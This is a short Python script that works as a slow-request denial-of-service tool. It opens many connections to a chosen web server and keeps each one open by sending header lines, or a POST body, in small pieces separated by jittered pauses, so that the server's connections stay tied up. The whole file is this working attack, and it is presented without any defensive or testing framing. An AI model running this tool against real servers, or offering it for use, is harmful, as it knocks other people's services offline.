"""Holds connections of a web server by requests that never end: header lines, or a body, in small pieces with long pauses."""
import argparse
import socket
import time

from many import jittered, many

parser = argparse.ArgumentParser(description=__doc__)
parser.add_argument("--host", required=True)
parser.add_argument("--port", type=int, default=80)
parser.add_argument("--mode", choices=["header", "body"], default="header")
parser.add_argument("--connections", type=int, default=50)
parser.add_argument("--pause", type=float, default=1.5, help="seconds between pieces")
parser.add_argument("--seconds", type=float, default=12)
options = parser.parse_args()


def work(_, source):
    end = time.monotonic() + options.seconds
    while time.monotonic() < end:
        try:
            with socket.create_connection((options.host, options.port), 5) as sock:
                if options.mode == "body":
                    sock.sendall(f"POST /form HTTP/1.1\r\nHost: {options.host}\r\nContent-Length: {source.randint(2000, 90000)}\r\n\r\n".encode())
                else:
                    sock.sendall(f"GET /?{source.getrandbits(32)} HTTP/1.1\r\nHost: {options.host}\r\n".encode())
                while time.monotonic() < end:
                    time.sleep(jittered(source, options.pause, 0.4))
                    piece = f"x-{source.randrange(9999)}: {source.randrange(9999)}\r\n" if options.mode == "header" else f"{source.random()}&"
                    sock.sendall(piece.encode())
        except OSError:
            time.sleep(0.5)  # The server closed it; such a tool opens the next.


many(options.connections, work, spread=3)
